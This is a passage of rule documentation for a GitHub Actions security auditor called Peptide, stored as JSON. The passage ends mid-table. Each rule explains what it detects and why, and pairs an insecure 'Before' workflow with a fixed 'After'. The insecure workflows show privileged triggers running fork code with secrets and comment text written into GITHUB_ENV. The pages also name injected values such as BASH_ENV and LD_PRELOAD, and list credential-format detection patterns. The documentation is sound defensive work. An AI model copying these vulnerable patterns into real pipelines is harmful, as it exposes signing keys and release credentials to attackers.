    "dangerous-trigger": "# dangerous-trigger\n\n**Severity:** critical; high when a label, an author-association or permission check, or an environment gates the job · **Confidence:** high; medium when the ref comes from a step output or the code from an artifact\n\n## What it finds\n\nA job of a workflow triggered by `pull_request_target`, `issue_comment` or `workflow_run` that\nbrings in code an outsider wrote and then runs it:\n\n- the fetch: `actions/checkout` with `ref:` naming the pull request's head or merge commit\n  (`github.event.pull_request.head.sha` / `head.ref`, `github.head_ref`, `refs/pull/N/merge`,\n  `github.event.workflow_run.head_sha` / `head_branch`, a step output named like a head ref) or\n  `repository:` naming the fork; `gh pr checkout`, `git fetch origin pull/N/head`,\n  `gh pr diff | git apply`; in a `workflow_run` job, downloading the triggering run's artifacts;\n- followed by something that runs code from it: `npm ci`/`install`/`run`, `yarn`, `pnpm`, `make`,\n  `pip install .` / `-r`, `python setup.py`, `pytest`, `tox`, `go build`/`test`/`run`/`generate`,\n  `cargo`, `mvn`, `gradle`, `bundle install`, `docker build`, `pre-commit run`, `./script`,\n  `bash x.sh`, a local action `uses: ./...`, or actions that build the project\n  (`docker/build-push-action`, `github/codeql-action/autobuild`, `ruby/setup-ruby` with\n  `bundler-cache: true`...).\n\nThe finding points at the checkout's `ref:` (or the fetching line) and names the trigger and the\nstep that runs the code. When the pull request lands in a subdirectory (`path: pr`), only commands\nthat enter or name that directory count.\n\nIt does not report the trigger alone, a checkout of the pull request that nothing runs (reading\nfiles, diffing), jobs whose `if:` keeps forks out on every branch\n(`github.event.pull_request.head.repo.full_name == github.repository`, `head.repo.fork == false`,\n`github.event.pull_request.merged == true`, `github.event_name == 'pull_request'`), and artifacts\ndownloaded outside the workspace and only read.\n\n## Why it matters on a payments release path\n\nThese triggers run the base repository's workflow with its secrets and a token that can write,\nfor events anyone can cause. Checking out the pull request and running `npm ci` runs the fork's\n`package.json` scripts in that job: the attacker's code reads the signing key, the registry\ncredentials and the `GITHUB_TOKEN`, and can push a tag or a release. Labels and comment commands\nhelp less than they seem: what runs is the head at that moment, not necessarily what a\nmaintainer reviewed.\n\n## Before\n\n```yaml\non: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n```\n\n## After\n\n```yaml\n# ci.yml: untrusted code runs without secrets\non: pull_request\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          persist-credentials: false\n      - run: npm ci && npm test\n```\n\nIf a privileged follow-up is needed (a comment, a label), run it from `workflow_run`, download\nthe results to `${{ runner.temp }}`, and treat them as data.\n",
    "env-injection": "# env-injection\n\n**Severity:** critical under privileged triggers (`pull_request_target`, `issue_comment`, `issues`, `workflow_run`...); medium in reusable workflows, composite actions and on `push`; low for dispatch inputs · **Confidence:** high for event text, medium for workflow_run artifacts and inputs\n\n## What it finds\n\nA `run:` script that writes data an attacker can shape to `$GITHUB_ENV` or `$GITHUB_PATH`:\n\n- `echo \"BODY=${{ github.event.comment.body }}\" >> \"$GITHUB_ENV\"`, or the same through a variable\n  set from such an expression (`env:`, an assignment in the script, a jq read of\n  `$GITHUB_EVENT_PATH`);\n- a bare value (`echo \"$TITLE\" >> \"$GITHUB_ENV\"`, `cat pr/env >> \"$GITHUB_ENV\"`): the writer\n  chooses the whole `NAME=value` line;\n- in a `workflow_run` job, content of the triggering run's artifacts\n  (`echo \"PR=$(cat pr/number)\" >> \"$GITHUB_ENV\"` after `actions/download-artifact` with `run-id`);\n- any such data appended to `$GITHUB_PATH`.\n\nPowerShell's `Add-Content -Path $env:GITHUB_ENV` and `tee -a`, `{ ...; } >>` groups and\nhere-documents are read too.\n\nIt does not report `NAME=value` writes of values that cannot hold a newline (branch names),\nvalues checked against an anchored pattern first (`grep -Eq '^[0-9]+$'`), multi-line writes whose\ndelimiter is random (`NAME<<$DELIM` with `DELIM=$(openssl rand -hex 16)`), and anything under\n`pull_request`, where the fork's own code runs anyway.\n\n## Why it matters on a payments release path\n\nEvery later step of the job reads `$GITHUB_ENV`. One newline in a comment body adds\n`BASH_ENV=/tmp/x`, `LD_PRELOAD=...` or `NODE_OPTIONS=--require=...`, and the next step that runs\nbash or node runs the attacker's code, in a job that holds the base repository's token and\nsecrets. It is the same outcome as a template injection, one step later, and it survives moving\nthe expression into `env:`.\n\n## Before\n\n```yaml\non: issue_comment\njobs:\n  bot:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          COMMENT: ${{ github.event.comment.body }}\n        run: echo \"COMMENT=$COMMENT\" >> \"$GITHUB_ENV\"\n      - run: ./scripts/handle-comment.sh\n```\n\n## After\n\n```yaml\non: issue_comment\njobs:\n  bot:\n    runs-on: ubuntu-latest\n    steps:\n      - id: comment\n        env:\n          COMMENT: ${{ github.event.comment.body }}\n        run: |\n          delim=\"$(openssl rand -hex 16)\"\n          { echo \"body<<$delim\"; echo \"$COMMENT\"; echo \"$delim\"; } >> \"$GITHUB_OUTPUT\"\n      - env:\n          COMMENT: ${{ steps.comment.outputs.body }}\n        run: ./scripts/handle-comment.sh\n```\n\nPass values between steps as outputs read through `env:`; when `$GITHUB_ENV` is needed, write\nonly fixed names with validated values.\n",
    "excessive-permissions": "# excessive-permissions\n\n**Severity:** high for `write-all`; medium for a write scope nothing needs (high under\n`pull_request_target`, `workflow_run`, `issue_comment` and other triggers that carry outside\ninput); low for `read-all` and for read scopes nothing needs · **Confidence:** high (low for\n`write-all` on a job with steps Peptide cannot classify) · **Fix:** `peptide audit --fix`\n\n## What it finds\n\nA `permissions:` block that grants more than the jobs under it use. The finding points at the\n`permissions:` key for `write-all` / `read-all`, and at the scope's line otherwise, and shows\nthe minimal block computed from the job's steps with Peptide's\n[permissions knowledge base](../permissions.md):\n\n- `permissions: write-all` anywhere, and `permissions: read-all` that some job inherits;\n- a job's own scope that none of its steps needs, or `write` where its steps only read\n  (`contents: write` in a job that only checks out, `pull-requests: write` when the pull\n  request is opened with a personal token);\n- a top-level scope inherited by jobs that do not need it: the message names the jobs that do,\n  so the scope can move to them (`permissions: {}` at the top);\n- a top-level write scope no job inherits (every job sets its own), which the next job added to\n  the file would get.\n\nNot reported:\n\n- `permissions: {}`, or exactly what the steps need;\n- `contents: read`: the restricted default, and what nearly every script assumes;\n- a job's scopes when it has steps Peptide cannot classify (a local action, an action outside the\n  knowledge base, a script that gets the token): those steps may need them. `write-all` is still\n  reported there, with low confidence;\n- `id-token: write` in a job that runs code Peptide cannot see (a test suite, a release script):\n  such code can request an OIDC token without being handed anything;\n- scopes an action uses only in some setups (`actions: read` for CodeQL in private repositories,\n  `packages: write` after a registry login whose registry is computed): the knowledge base\n  lists them as tolerated;\n- `read-all` at the top when every job sets its own block (the OpenSSF Scorecard template).\n\n## Why it matters on a payments release path\n\nThe token's scopes are the blast radius of every step in the job. A lint job that inherits\n`contents: write` can push to `main`; a test job with `id-token: write` can mint an OIDC token\nand assume the cloud role that deploys to production, if the role's trust policy only checks\nthe repository; `packages: write` lets any action in the job overwrite the image your cluster\npulls. Scoping each job to what it uses means a compromised action or dependency in one job\ncannot reach what another job is trusted with, and it keeps the release job's grants visible\nin review.\n\n## Before\n\n```yaml\npermissions:\n  contents: write\n  packages: write\n\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - run: make lint\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - uses: softprops/action-gh-release@c062e08bd532815e2082a85e87e3ef29c3e6d191 # v2.0.8\n```\n\n## After\n\n```yaml\npermissions: {}\n\njobs:\n  lint:\n    permissions:\n      contents: read\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - run: make lint\n  release:\n    permissions:\n      contents: write\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - uses: softprops/action-gh-release@c062e08bd532815e2082a85e87e3ef29c3e6d191 # v2.0.8\n```\n\n`peptide audit --fix` narrows a top-level block in place when every job under it needs the same\nscopes, and otherwise replaces it with `permissions: {}` and writes each job's block after its\nkey. A job's own block is edited scope by scope: unneeded lines are removed, `write` becomes\n`read` where only reads happen, and comments on the lines that stay are kept. It never takes\naway a scope that a person granted to a job with steps it cannot classify: such a job keeps its\nown block, and one that inherited a top-level map gets that map as its own block, under a\n`# peptide: could not classify ...` comment.\n",
    "hardcoded-credentials": "# hardcoded-credentials\n\n**Severity:** critical for live provider tokens and private keys, high otherwise (medium for a\nGoogle API key) · **Confidence:** high for provider formats and registry passwords, medium for\nvalues judged by their name and randomness\n\n## What it finds\n\nA credential written into the workflow or action file itself:\n\n- **Provider formats, anywhere in the file** (values, `run:` scripts, comments): AWS access key\n  ids (`AKIA…`, `ASIA…`), GitHub tokens (`ghp_`, `gho_`, `ghu_`, `ghs_`, `ghr_`,\n  `github_pat_`), Slack tokens (`xox…`) and webhook URLs, Stripe live keys (`sk_live_`,\n  `rk_live_`), npm (`npm_`), PyPI (`pypi-…`), GitLab (`glpat-`), Docker Hub (`dckr_pat_`),\n  SendGrid and Google API keys.\n- **PEM private keys**: a `-----BEGIN … PRIVATE KEY-----` line followed by key material (a line\n  that only mentions the header, as in `grep \"BEGIN RSA PRIVATE KEY\"`, is not reported).\n- **Registry passwords**: a literal `credentials.password` of a job `container:` or a service,\n  and a literal `password`/`token` of `docker/login-action`, `azure/docker-login` or\n  `redhat-actions/podman-login`.\n- **Literal values under credential names**: `env:` entries (workflow, job, step, job container)\n  and `with:` inputs named like `*_TOKEN`, `*_SECRET`, `*PASSWORD`, `*_API_KEY`, `*_KEY`,\n  `CLIENT_SECRET`, `CREDENTIALS`…, when the value reads like a random credential: 16 characters\n  or more, letters and digits mixed, high entropy, and not a path, URL, ARN, version or\n  kebab-case name. Values passed as `secrets:` to a reusable workflow are reported whenever they\n  are literals.\n\nThe message never contains the credential: it shows its first four characters and `…`.\n\nDeliberately not reported:\n\n- anything inside `${{ }}`, `$VAR` references, booleans and numbers;\n- placeholders: `<your-token>`, `xxxx`, `***`, `changeme`, values containing `example`,\n  `dummy`, `fake`, `placeholder` (AWS's documented `AKIAIOSFODNN7EXAMPLE` included);\n- a service container's own `env:` (`POSTGRES_PASSWORD: postgres`): it configures a throwaway\n  database on the runner, not access to anything. Short, word-like test values elsewhere\n  (`DATABASE_PASSWORD: postgres`, `VAULT_TOKEN: root` for a dev-mode server) are not random\n  enough to report either;\n- names that end like a credential but are not: `PUBLIC_KEY`, `CACHE_KEY`, `key` (cache keys),\n  `token_format`, `id-token`.\n\nA short literal password under a credential name (`password: hunter2`) outside a registry login\nis therefore missed; this rule prefers silence to noise.\n\n## Why it matters on a payments release path\n\nEverything in a workflow file is readable by everyone who can read the repository, for as long\nas the history exists: removing the line later does not un-leak it, and forks and clones keep\ncopies. Unlike `${{ secrets.* }}` values, a literal is not masked in logs, is not scoped to an\nenvironment, and cannot be rotated without a commit. Automated scanners harvest public\nrepositories for exactly these formats within minutes of a push.\n\n## Before\n\n```yaml\nenv:\n  AWS_ACCESS_KEY_ID: AKIA…\njobs:\n  build:\n    container:\n      image: ghcr.io/octo-org/builder:1.0\n      credentials:\n        username: bot\n        password: hunter2hunter2\n```\n\n## After\n\n```yaml\njobs:\n  build:\n    permissions:\n      id-token: write\n      packages: read\n    container:\n      image: ghcr.io/octo-org/builder:1.0@sha256:<digest>\n      credentials:\n        username: ${{ github.actor }}\n        password: ${{ secrets.GITHUB_TOKEN }}\n```\n\nFirst revoke the leaked credential at its provider (it is compromised whatever you do to the\nfile), then store its replacement as an encrypted secret, or drop it entirely in favour of OIDC\nfederation (see [long-lived-credentials](long-lived-credentials.md)).\n",
    "insecure-commands": "# insecure-commands\n\n**Severity:** high; low for `::set-env` / `::add-path` in scripts where the runner rejects them · **Confidence:** high\n\n## What it finds\n\n- `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` in any `env:` (workflow, job, step, composite step,\n  job container);\n- the deprecated `::set-env name=X::value` and `::add-path::dir` workflow commands in a `run:`\n  script. With the flag set they work and are reported high; without it the runner rejects them\n  (the step fails), and they are reported low as dead code to replace.\n\n`::set-output`, `::add-mask`, `::group` and other commands are not reported.\n\n## Why it matters on a payments release path\n\nThe runner reads workflow commands from everything a step prints. With the flag on, any output\nline that a test, a dependency or a log of an issue title produces, `::set-env name=LD_PRELOAD::/tmp/x.so`,\nchanges the environment of every later step: code execution in a job that may hold signing\nkeys. GitHub disabled these commands in 2020 for that reason (CVE-2020-15228); the flag exists\nonly for compatibility.\n\n## Before\n\n```yaml\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\nsteps:\n  - run: |\n      echo \"::set-env name=VERSION::1.2.3\"\n      echo \"::add-path::/opt/tool/bin\"\n```\n\n## After\n\n```yaml\nsteps:\n  - run: |\n      echo \"VERSION=1.2.3\" >> \"$GITHUB_ENV\"\n      echo \"/opt/tool/bin\" >> \"$GITHUB_PATH\"\n```\n",
    "long-lived-credentials": "# long-lived-credentials\n\n**Severity:** high for cloud keys (AWS, Google Cloud, Azure), medium for package-registry tokens ·\n**Confidence:** high for action inputs, medium for environment variables\n\n## What it finds\n\nA stored, long-lived credential (a `${{ secrets.* }}` value) used where the provider accepts\nGitHub's OIDC token instead:\n\n| where | what |\n|---|---|\n| `aws-actions/configure-aws-credentials` | `aws-access-key-id` / `aws-secret-access-key` |\n| `google-github-actions/auth` | `credentials_json` (a service-account key) |\n| `azure/login` | `creds` (a service principal with a client secret) |\n| `docker/login-action` to ECR (`*.dkr.ecr.*.amazonaws.com`, `public.ecr.aws`), GCR / Artifact Registry (`gcr.io`, `*-docker.pkg.dev`) or ACR (`*.azurecr.io`) | `password` from a secret |\n| `env:` at any level | `AWS_ACCESS_KEY_ID`, `AWS_SECRET_ACCESS_KEY`, `AZURE_CLIENT_SECRET`, `ARM_CLIENT_SECRET`, `GOOGLE_CREDENTIALS`, `GOOGLE_APPLICATION_CREDENTIALS_JSON` from a secret |\n| a job that publishes to npmjs.com (`npm`/`pnpm`/`yarn`/`lerna`/`changeset publish`, `changesets/action`, `JS-DevTools/npm-publish`) | `NODE_AUTH_TOKEN` / `NPM_TOKEN` from a secret, or the action's `token` |\n| a job that publishes to PyPI (`pypa/gh-action-pypi-publish`, `twine upload`, `uv`/`poetry`/`hatch`/`pdm`/`flit publish`, `maturin publish`) | the action's `password`, `TWINE_PASSWORD`, `UV_PUBLISH_TOKEN`, ... |\n| a job that runs `cargo publish` | `CARGO_REGISTRY_TOKEN` |\n| a job that runs `gem push` | `GEM_HOST_API_KEY` |\n\nNot reported: `secrets.GITHUB_TOKEN`; values taken from an earlier step's outputs (a token minted\nby an OIDC login) or, in a composite action, from `inputs.*` (the caller decides); npm publishes\nto another registry (`registry-url` or `--registry` other than registry.npmjs.org, such as GitHub\nPackages), PyPI uploads to another index (`repository-url`), dry runs; Docker Hub and `ghcr.io`\nlogins (no OIDC federation to use instead).\n\n## Why it matters on a payments release path\n\nA stored key works from anywhere, for anyone who holds it, until someone remembers to rotate it.\nKeys leak through logs, compromised actions, forks of a workflow and laptops, and a leaked\nproduction AWS key or npm token is a direct route to your infrastructure or to your users'\ndependency trees. With OIDC federation the job asks GitHub for a token that names the\nrepository, workflow, ref and environment; the cloud or registry trusts exactly those claims and\nreturns a credential that expires in minutes. There is nothing to rotate and nothing worth\nstealing, and the trust policy becomes an auditable statement of which workflow may deploy or\npublish. npm, PyPI, crates.io and RubyGems trusted publishing also attach provenance to what you\nship.\n\n## Before\n\n```yaml\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502 # v4.0.2\n        with:\n          aws-access-key-id: ${{ secrets.AWS_ACCESS_KEY_ID }}\n          aws-secret-access-key: ${{ secrets.AWS_SECRET_ACCESS_KEY }}\n          aws-region: eu-west-1\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n```\n\n## After\n\n```yaml\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment: production\n    permissions:\n      id-token: write\n      contents: read\n    steps:\n      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502 # v4.0.2\n        with:\n          role-to-assume: arn:aws:iam::123456789012:role/deploy-production\n          aws-region: eu-west-1\n  publish:\n    runs-on: ubuntu-latest\n    environment: npm\n    permissions:\n      id-token: write\n      contents: read\n    steps:\n      - run: npm install -g npm@latest && npm publish\n```\n\nRestrict the role's trust policy to the environment\n(`\"token.actions.githubusercontent.com:sub\": \"repo:octo-org/payments:environment:production\"`),\nconfigure the npm package's trusted publisher with the workflow file and environment name, then\ndelete the old key and token.\n",
    "missing-permissions": "# missing-permissions\n\n**Severity:** medium (high under `pull_request_target`, `workflow_run`, `issue_comment`,\n`issues` and other triggers that carry outside input) · **Confidence:** high (medium for a job\nthat calls a reusable workflow we cannot read) · **Fix:** `peptide audit --fix`\n\n## What it finds\n\nA job that runs with the repository's default `GITHUB_TOKEN` permissions: it has no\n`permissions:` block of its own and the workflow has none at the top level. The finding points\nat the job's key and names the smallest block the job needs, computed from its steps with\nPeptide's [permissions knowledge base](../permissions.md): what each action does with the token\n(`actions/checkout` reads, `softprops/action-gh-release` writes contents,\n`aws-actions/configure-aws-credentials` with `role-to-assume` requests an OIDC token...), what\n`run:` scripts do with it (`gh pr comment`, `git push` with the credentials `actions/checkout`\nleft, `docker push` after a login to ghcr.io, `cosign sign` without a key...), and which inputs\nhand an action some other token instead (`token: ${{ secrets.BOT_PAT }}`).\n\nWhen a step cannot be classified (a local action, an action the knowledge base does not know, a\nscript that gets the token and that Peptide cannot see into) the message gives what the other\nsteps need and names the steps to check by hand.\n\nNot reported:\n\n- a workflow without a top-level block whose jobs all declare their own: each job is scoped;\n- a job under a top-level block, `permissions: {}` included: it inherits that block (see\n  [excessive-permissions](excessive-permissions.md) for blocks that are too broad).\n\nA job that calls a reusable workflow is reported too: the callee gets at most what the caller\ngrants. For well-known reusable workflows (the SLSA generators) the needed block is known; for\nothers the message asks for the block the called workflow's jobs declare.\n\n## Why it matters on a payments release path\n\nThe default token of many organisations, and of every repository created before February 2023,\ncan write to the code, releases, packages, pull requests and workflow runs of the repository.\nEvery step of a job gets it, including third-party actions and whatever a compromised\ndependency runs during `npm install`. A job that only needs to read the code should not be able\nto push a commit to `main`, move a release tag, or publish a package to ghcr.io with the\nrepository's name on it. An explicit block also makes the job's reach reviewable: an auditor\nreads `contents: read, id-token: write` and knows the job can fetch code and assume its cloud\nrole, nothing else.\n\n## Before\n\n```yaml\non:\n  push:\n    branches: [main]\n\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502 # v4.0.2\n        with:\n          role-to-assume: arn:aws:iam::123456789012:role/deploy\n          aws-region: eu-west-1\n      - run: ./deploy.sh\n```\n\n## After\n\n```yaml\non:\n  push:\n    branches: [main]\n\npermissions: {}\n\njobs:\n  deploy:\n    permissions:\n      contents: read\n      id-token: write\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502 # v4.0.2\n        with:\n          role-to-assume: arn:aws:iam::123456789012:role/deploy\n          aws-region: eu-west-1\n      - run: ./deploy.sh\n```\n\n`peptide audit --fix` writes `permissions: {}` at the top (before `jobs:`) and each job's block\nright after its key, editing only those lines: comments, quoting, blank lines and CRLF line\nendings stay as they were, and running it again changes nothing. A job with steps it could not\nclassify still gets what the other steps need, under a comment naming those steps\n(`# peptide: could not classify ...`): add what they need before merging. A job that calls a\nreusable workflow Peptide cannot read is left on the default token (and no top-level block is\nadded) rather than cut off from what the callee needs.\n",
    "oidc-untrusted": "# oidc-untrusted\n\n**Severity:** critical when the job runs pull-request code, high for other jobs on triggers\noutsiders can fire, medium for a workflow-wide grant and for cloud roles outside an environment ·\n**Confidence:** medium (high for the pull-request-code case)\n\n## What it finds\n\n`id-token: write` lets a job ask GitHub for an OIDC token naming the repository, workflow, ref\nand environment. Clouds (AWS, Google Cloud, Azure), package registries (npm, PyPI, crates.io)\nand Sigstore exchange it for real credentials or signing certificates. This rule reports the\ngrant where the wrong code or the wrong people can use it:\n\n1. **Triggers outsiders can fire.** A job with `id-token: write` (its own, or inherited from the\n   workflow) in a workflow triggered by `pull_request_target`, `issue_comment`, `workflow_run`,\n   `issues`, `discussion` or `discussion_comment`. These run in the base repository's context\n   and the token names the default branch, so a trust policy pinned to `main` accepts it.\n   Critical when the job also checks out the pull request's code (`ref:` from\n   `github.event.pull_request.head.*`, `refs/pull/...`, `gh pr checkout`). A job whose `if:`\n   keeps it off those events (`github.event_name == 'push'`) is not reported.\n2. **Granted to the whole workflow.** `id-token: write` in the top-level `permissions:` reaches\n   two or more jobs, and at least one of them shows no use of OIDC. A job counts as using it\n   when it logs in to a cloud by OIDC, uses `actions/attest*`, `sigstore/*`, `slsa-framework/*`,\n   trusted publishing to PyPI or npm, `cosign sign`/`attest`, `gitsign`, or reads\n   `ACTIONS_ID_TOKEN_REQUEST_*`; a job that calls a reusable workflow or runs tools that might\n   sign out of sight (`goreleaser`, `ko`, `make`, repository scripts) is given the benefit of\n   the doubt.\n3. **Cloud roles outside an environment.** `aws-actions/configure-aws-credentials` with\n   `role-to-assume`, `google-github-actions/auth` with `workload_identity_provider` or\n   `azure/login` with `client-id`, in a job with no `environment:` that runs on\n   `pull_request` or on `push` without a branch or tag filter. For the job to work at all the\n   role's trust policy must accept pull-request or arbitrary branch refs, which anyone with\n   write access can create.\n\nPlain `pull_request` runs from forks never receive an OIDC token, so they are not reported\nunder (1). `workflow_dispatch` is not reported under (3): a dispatch from another branch\ncarries that branch in its token, which a trust policy pinned to `main` rejects.\n\n## Why it matters on a payments release path\n\nThe OIDC token is the job's identity. Whoever controls the code running in a job that holds it\ncan, for the next few minutes, be your deploy role in AWS, publish your npm package, or get a\nSigstore certificate saying your release workflow signed their binary. Under\n`pull_request_target` that code can be a stranger's pull request; with a workflow-wide grant it\nis every action in every job, including the linters that had no business signing anything.\nBinding the authenticated job to a protected environment lets the cloud's trust policy require\n`sub: repo:<owner>/<repo>:environment:production`, a claim only a reviewed run can present.\n\n## Before\n\n```yaml\non: [push, pull_request]\npermissions:\n  id-token: write\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: go test ./...\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502 # v4.0.2\n        with:\n          role-to-assume: arn:aws:iam::123456789012:role/deploy\n          aws-region: eu-west-1\n```\n\n## After\n\n```yaml\non: [push, pull_request]\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - run: go test ./...\n  deploy:\n    if: github.event_name == 'push' && github.ref == 'refs/heads/main'\n    runs-on: ubuntu-latest\n    environment: production\n    permissions:\n      id-token: write\n      contents: read\n    steps:\n      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502 # v4.0.2\n        with:\n          role-to-assume: arn:aws:iam::123456789012:role/deploy\n          aws-region: eu-west-1\n```\n\nwith the role trusting only\n`\"token.actions.githubusercontent.com:sub\": \"repo:octo-org/payments:environment:production\"`.\n",
    "parse-error": "# parse-error\n\n**Severity:** high · **Confidence:** high\n\n## What it finds\n\nA file that was given to the audit, or found where workflows and actions live\n(`.github/workflows/*.yml`, `action.yml`), but cannot be read as one: not valid YAML, not a\nmapping, a workflow without `on:` or `jobs:`, an action without `runs:`, a binary file, a file over\n1 MiB, or a YAML document whose aliases expand past 100 (an \"alias bomb\").\n\n## Why it matters on a payments release path\n\nA workflow the auditor cannot read is a workflow nobody has checked. GitHub may still run part of\nit, or refuse it at the worst moment (a hotfix release). Peptide reports it instead of silently\nskipping it, so the gap shows up in the same report as every other finding, and the remaining\nfiles are still audited.\n\n## Before\n\n```yaml\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"unterminated\n```\n\n## After\n\n```yaml\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"terminated\"\n```\n",
    "policy-violation": "# policy-violation\n\n**Severity:** high · **Confidence:** high (medium when an expression decides whether a step ships)\n\n## What it finds\n\nA job that breaks the rules of a job class in your policy file (`.github/peptide.yml`, or the\nfile given to `--config`). Nothing is reported without a policy: this rule enforces what you\nwrote, not Peptide's defaults.\n\nA class says which jobs it covers and what they may do:\n\n```yaml\nclasses:\n  pull_request_tests:            # built-in match: events pull_request, pull_request_target, merge_group\n    secrets: none                # no secret but GITHUB_TOKEN\n    deploy: false\n    artifact_write: false\n    environment: forbidden\n    permissions:\n      contents: read\n  main_branch_build:             # built-in match: push to main or master\n    secrets: minimal             # named secrets only: no `secrets: inherit`, no toJSON(secrets)\n    deploy: false\n    permissions:\n      contents: read\n      packages: write\n      id-token: write\n  production_deploy:             # built-in match: environments production, prod\n    environment: required\n  release_jobs:\n    match:\n      jobs: [\"release*\", \"publish-*\"]\n      files: [\".github/workflows/release.yml\"]\n    environment: required\n```\n\n### Which jobs a class covers\n\nA job belongs to a class when every criterion under `match:` holds (each criterion matches if\nany of its values does; values are globs):\n\n| criterion | holds when |\n|---|---|\n| `events` | the workflow has one of these triggers, and the job's `if:` does not keep it off that event (`github.event_name == 'push'`) |\n| `branches` | a `push`, `pull_request` or `pull_request_target` trigger runs on one of these branches: its `branches:` filter matches (either way, so `release/*` matches `release/**`), or it has no branch filter (every branch). A `push` with only `tags:` runs on no branch. Other events do not carry a branch and never match. |\n| `environments` | the job's `environment:` name matches |\n| `jobs` | the job id matches |\n| `files` | the workflow's path matches |\n\nThe built-in class names (`pull_request_tests`, `main_branch_build`, `production_deploy`,\n`release`) come with the matches noted above when you give no `match:`.\n\n### What a class checks\n\n| key | violation | where it points |\n|---|---|---|\n| `secrets: none` | any `${{ secrets.* }}` other than `GITHUB_TOKEN` reaching the job (its body, or the workflow-level `env:`), and `secrets: inherit`; once per secret | the first read |\n| `secrets: minimal` | `secrets: inherit`, `toJSON(secrets)`, `secrets[expr]` | the expression |\n| `deploy: false` | any step in the deploy table of [unprotected-deploy](unprotected-deploy.md) (deploys, package publishes, image pushes, releases, sites) | the step |\n| `artifact_write: false` | `actions/upload-artifact`, `actions/upload-pages-artifact`, and every publish, image push, release and site of the deploy table | the step |\n| `environment: required` | no `environment:` (jobs calling a reusable workflow are skipped: they cannot set one) | the job key |\n| `environment: forbidden` | an `environment:` | the environment |\n| `permissions:` | a scope above the class's level (scopes the class does not list are `none`), `write-all`/`read-all` above it, or no `permissions:` at all (the repository default, possibly write-all) | the scope, or the job key |\n\nPermissions are the job's own `permissions:`, or the workflow's when the job has none; the\nmessage says which.\n\n## Why it matters on a payments release path\n\nThe other rules say what is risky in general. A payments team also has commitments of its own,\noften written for an auditor: pull-request jobs never see production credentials, only the\nrelease workflow publishes, every production deploy goes through an approved environment. A\npolicy file turns those sentences into checks that run on every change to every workflow, so a\n\"temporary\" `secrets: inherit` in a PR job or a `kubectl apply` added to the build job fails\nreview instead of surfacing in the next incident report. Each finding names the class and the\npolicy file, so the fix is either to change the workflow or, visibly, the policy.\n\n## Before\n\nWith the policy above:\n\n```yaml\non: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n        env:\n          CODECOV_TOKEN: ${{ secrets.CODECOV_TOKEN }}\n      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2\n        with:\n          path: coverage/\n```\n\n## After\n\n```yaml\non: pull_request\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test   # coverage goes out from a workflow_run job of another class\n```\n",
    "secrets-exposure": "# secrets-exposure\n\n**Severity:** high for `toJSON(secrets)` and for secrets in a job that runs pull-request code\nunder a privileged trigger; medium for dynamic `secrets[...]`, workflow-level `env:` secrets and\nsecrets exported through `GITHUB_ENV` or the job summary; low for secrets echoed to the log or\nto `GITHUB_OUTPUT` · **Confidence:** high, medium where noted below\n\n## What it finds\n\nA secret handed to more code than the step that needs it:\n\n| pattern | why |\n|---|---|\n| `${{ toJSON(secrets) }}` (any use of the whole `secrets` context) | every repository and organization secret ends up in one value |\n| `${{ secrets[expr] }}` with a computed index | the runner cannot know which secret you mean, so it sends every secret to the job |\n| `env:` at the top of the workflow with `${{ secrets.X }}` | the value is in the environment of every step of every job, third-party actions included |\n| `echo \"X=${{ secrets.X }}\" >> \"$GITHUB_ENV\"` (directly or via an env variable holding the secret) | every later step of the job gets it |\n| `echo ... >> \"$GITHUB_STEP_SUMMARY\"` of a secret | the summary is rendered for everyone who can read the run |\n| `echo ... >> \"$GITHUB_OUTPUT\"` of a secret | the output can be copied by expressions into places masking does not cover |\n| 